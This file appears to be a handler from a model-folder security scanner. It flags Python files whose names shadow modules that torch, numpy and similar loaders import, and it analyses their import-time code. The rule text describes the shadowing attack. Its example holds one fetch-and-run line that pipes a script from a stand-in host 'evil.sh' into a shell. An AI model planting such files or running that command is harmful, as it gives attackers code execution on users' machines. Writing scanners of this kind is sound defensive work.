"""Module files in a model folder that shadow what a loader imports when Python runs from that folder.

Python puts the script's folder (or, for `python -c`, `python -m` and the interactive prompt, the current
directory) first on `sys.path`, after start-up. A user who clones a model repository and runs
`python -c "import torch; torch.load('model.pt')"` in it imports the repository's `torch.py`,
`numpy/__init__.py`, `pickle.py` or `pynvml.py` instead of the installed module: its top-level code runs
with the model load, and nothing breaks if it re-exports the real module. Only names a loader imports
count: the modules torch 2.13, NumPy 2.4, Keras 3 / TensorFlow 2.21 / h5py and scikit-learn / joblib /
safetensors / PyYAML / MLflow import or try to import on `import` (recorded with an import hook),
the frameworks a model folder is loaded with, and none of the modules Python imports before the folder
is on the path (`os`, `sys`, `io`, `site`, ...), which cannot be shadowed. The name decides which file
Python picks, so this handler is claimed by the file name; the content is then judged like remote code.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator

from modelshield.core import pysource
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.source import FileSource, Source

SHADOWING_MODULE = Rule(
    id="MOD001",
    title="Model folder ships a module that shadows an import",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="The folder holds `<name>.py`, `<name>/__init__.py`, a `<name>.pyc` or a native extension "
    "`<name>.*.so` / `.pyd` whose name is a module that loading a model imports (`torch`, `numpy`, "
    "`pickle`, `json`, an optional dependency such as `pynvml` that torch tries to import). When Python runs "
    "from this folder, the folder comes first on `sys.path` and that file is imported instead of the "
    "installed module. The severity is raised to what the file's code does at import time.",
    attack="The repository ships `pynvml.py` (torch imports it if present) or `json.py` that re-exports the "
    "real module and starts a payload; the user runs the README's snippet from the cloned folder.",
    impact="The file's code runs with the user's rights whenever the model is loaded from that folder.",
    remediation="Delete the file, or never run Python from inside the model folder; load the model by path "
    "from another directory.",
    example="`my-model/numpy.py` containing `import os; os.system('curl evil.sh | sh')`.",
)

#: Top-level modules imported (or tried) by `import torch` / `numpy` / `keras` / `tensorflow` / `h5py` /
#: `sklearn` / `joblib` / `safetensors` / `yaml` / `mlflow` (an import hook's log, in the fixture envs), and
#: frameworks models are loaded with; without the modules imported at start-up.
LOADER_IMPORTS = frozenset(
    """IPython PIL absl accelerate annotated_doc annotated_types anyio argparse array ast astunparse asyncio
    atexit backports base64 bdb binascii bisect bottleneck brotli brotlicffi bz2 cachetools calendar catboost
    certifi chardet charset_normalizer click cloud_tpu_client cloudpickle cmath cmd code codeop collections
    colorsys concurrent configparser contextlib contextvars copy copyreg csv ctypes cuda cv2 cython databricks
    dataclasses datetime dateutil decimal difflib diffusers dill dis email email_validator enum errno fastapi
    faulthandler fcntl fileinput flatbuffers flax fnmatch fractions ftplib functools gast gc getpass gettext
    gguf glob google googleapiclient grp gzip h5py hashlib heapq hmac html http huggingface_hub hydra idna
    importlib importlib_metadata inspect ipaddress itertools jax jaxlib jinja2 joblib json keras keyword
    lightgbm linecache litert llama_cpp locale logging lz4 lzma math matplotlib mimetypes ml_dtypes mlflow mmap
    monkeytype msvcrt multipart multiprocessing namex narwhals nt ntpath numbers numexpr numpy objgraph
    omegaconf onnx onnxruntime opcode opentelemetry operator opt_einsum optree org orjson packaging pandas
    pathlib pdb peft pickle pickletools pkgutil platform polars pprint psutil pwd pyarrow pydantic
    pydantic_core pydantic_extra_types pydoc pydot pydot_ng pydotplus pynvml pyspark python python_multipart
    pytz queue quopri random re reprlib requests rich runpy safetensors scikits scipy secrets select selectors
    sentence_transformers shlex shutil signal simplejson six sklearn skops sksparse sniffio socket socks
    sqlalchemy sqlparse ssl starlette statistics string stringprep struct subprocess sysconfig tarfile tblib
    tempfile tensorflow termcolor termios textwrap tf_keras threading threadpoolctl timeit timm token tokenize
    tokenizers torch torchcomms torchgen tqdm traceback transformers types typing typing_extensions
    typing_inspection uarray ujson unicodedata unittest urllib urllib3 uuid warnings weakref winreg wrapt
    xgboost xml yaml zipfile zipp zlib zoneinfo""".split()
)
#: The file names Python imports a module `<name>` from, in a folder on `sys.path`.
_MODULE_FILE = re.compile(r"(?P<name>[A-Za-z_]\w*)(?P<kind>\.py|\.pyc|(?:\.[\w-]+)?\.so|(?:\.[\w-]+)?\.pyd)\Z")
MAX_SOURCE = 1 << 20


def shadowed(path: str) -> tuple[str, str] | None:
    """(module name, file kind) when Python would import `path` for a module a loader imports."""
    folder, base = os.path.split(path)
    match = _MODULE_FILE.match(base)
    if match is not None and match["name"] == "__init__":  # `__init__.py`, a sourceless `__init__.pyc`, ...
        folder, base = os.path.split(folder)
        name, kind = base, "package" if match["kind"] == ".py" else match["kind"]
    elif match is not None:
        name, kind = match["name"], match["kind"]
    else:
        return None
    if name not in LOADER_IMPORTS or _installed(folder, name):
        return None
    return name, kind


def _installed(folder: str, name: str) -> bool:
    """Whether the folder is where packages are installed (a site-packages folder, or the module's own
    `*.dist-info` beside it), not a model folder."""
    if os.path.basename(folder) in ("site-packages", "dist-packages"):
        return True
    try:
        entries = os.listdir(folder or ".")
    except OSError:
        return False
    return any(e.startswith(f"{name}-") and e.endswith((".dist-info", ".egg-info")) for e in entries)


class ShadowModuleHandler(Handler):
    name = "shadowing-module"
    label = "Python module shadowing an import"
    rules = (SHADOWING_MODULE,)
    companion = True  # claimed by its name beside whatever the content is

    def detect(self, source: Source) -> bool:
        return isinstance(source, FileSource) and shadowed(source.path) is not None

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        path = source.path if isinstance(source, FileSource) else ""
        found = shadowed(path)
        if found is None:
            return
        name, kind = found
        severity = Severity.HIGH
        detail = ""
        if kind in (".py", "package"):
            if source.size > MAX_SOURCE:
                detail = f"; larger than {MAX_SOURCE} bytes, not analysed"
            else:
                text = source.read_at(0, MAX_SOURCE).decode("utf-8", "replace")
                problems, _ = pysource.analyse_source(text, os.path.basename(path))
                if problems:
                    severity = max(severity, problems[0].severity)
                    detail = f"; line {problems[0].line}: {problems[0].text}"
        else:
            detail = "; compiled or native code, not analysed"
        evidence = f"imported instead of the installed {name!r} when Python runs from this folder{detail}"
        yield ctx.finding(SHADOWING_MODULE, evidence, severity=severity)
